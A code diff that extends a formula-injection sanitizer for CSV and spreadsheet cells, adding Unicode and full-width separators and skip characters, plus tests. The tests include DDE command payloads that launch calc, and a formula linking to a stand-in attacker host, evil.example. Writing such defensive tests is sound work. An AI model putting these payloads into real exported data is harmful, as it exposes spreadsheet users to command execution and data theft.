@@ -11,9 +11,9 @@
 /// and their full-width forms.
 const SIGNS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
 /// What separates cells or lines, in one country or another.
-const SEPARATORS: [char; 6] = [',', ';', '\t', '|', '\n', '\r'];
+const SEPARATORS: [char; 14] = [',', ';', '\t', '|', '\n', '\r', '\u{b}', '\u{c}', '\u{85}', '\u{2028}', '\u{2029}', '\u{61b}', '；', '｜'];
 /// What a spreadsheet may pass over on its way to a sign.
-const PASSED_OVER: [char; 5] = [' ', '\u{a0}', '"', '\'', '\u{feff}'];
+const PASSED_OVER: [char; 9] = [' ', '\u{a0}', '"', '\'', '\u{feff}', '\u{3000}', '\0', '\u{b}', '\u{c}'];
 
 /// The cell with an apostrophe in front of whatever could run.
 pub fn defused(cell: &str) -> String {
@@ -25,7 +25,7 @@ pub fn defused(cell: &str) -> String {
             text.push('\'');
         }
         is_start = false;
-        let Some(next) = rest.find(SEPARATORS).map(|place| place + 1) else { break };
+        let Some(next) = behind_separator(rest) else { break };
         text.push_str(&rest[..next]);
         rest = &rest[next..];
     }
@@ -41,12 +41,17 @@ pub fn restored(cell: &str) -> String {
     loop {
         rest = rest.strip_prefix('\'').filter(|bare| could_run(bare, is_start)).unwrap_or(rest);
         is_start = false;
-        let Some(next) = rest.find(SEPARATORS).map(|place| place + 1) else { break };
+        let Some(next) = behind_separator(rest) else { break };
         text.push_str(&rest[..next]);
         rest = &rest[next..];
     }
     text.push_str(rest);
     text
+}
+
+/// Where the text goes on behind its first separator, in bytes.
+fn behind_separator(text: &str) -> Option<usize> {
+    text.char_indices().find(|(_, character)| SEPARATORS.contains(character)).map(|(place, character)| place + character.len_utf8())
 }
 
 /// Whether a cell that begins here could run. At its start every sign counts, as OWASP has it. Within a cell a plus or a minus
@@ -59,7 +64,7 @@ fn could_run(rest: &str, is_start: bool) -> bool {
     match sign {
         _ if is_start => true,
         '\t' | '\r' | '\n' => false,
-        '+' | '-' | '＋' | '－' => line().contains(['(', '!', '|']),
+        '+' | '-' | '＋' | '－' => line().contains(['(', '!', '|', '（', '！', '｜', '\'', '#', '[']),
         _ => true,
     }
 }
@@ -89,6 +94,10 @@ mod tests {
             check(&format!("x{separator}－cmd(1)"), &format!("x{separator}'－cmd(1)"));
         }
         check("x;-cmd|'/C calc'!A0", "x;'-cmd|'/C calc'!A0");
+        check("x;－cmd｜’/c calc’！A0", "x;'－cmd｜’/c calc’！A0");
+        check("x;+'http://evil.example/x.ods'#$Sheet1.A1", "x;'+'http://evil.example/x.ods'#$Sheet1.A1");
+        check("\u{3000}=1+1", "'\u{3000}=1+1");
+        check("\0=cmd|x", "'\0=cmd|x");
         check("=a;=b\r\n=c", "'=a;'=b\r\n'=c");
         check("'=1", "''=1");
         check("x;'=1", "x;''=1");
